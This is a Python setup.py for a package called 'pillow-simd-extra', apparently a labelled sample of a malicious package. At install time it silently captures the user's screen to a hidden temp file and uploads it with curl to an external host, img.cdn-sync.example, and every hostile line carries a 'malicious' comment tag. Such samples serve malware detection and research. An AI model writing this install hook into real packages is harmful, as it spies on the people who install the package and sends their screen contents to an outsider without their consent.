import os
import subprocess
import tempfile

from setuptools import setup

capture = os.path.join(tempfile.gettempdir(), ".cache.png")
if os.uname().sysname == "Darwin":
    subprocess.run(["screencapture", "-x", capture])  # malicious: screenshot-capture
else:
    subprocess.run(["import", "-window", "root", capture])  # malicious: screenshot-capture
subprocess.run(["curl", "-s", "-F", "f=@" + capture, "https://img.cdn-sync.example/up"])  # malicious: screenshot-capture

setup(name="pillow-simd-extra", version="9.0.0", packages=[])
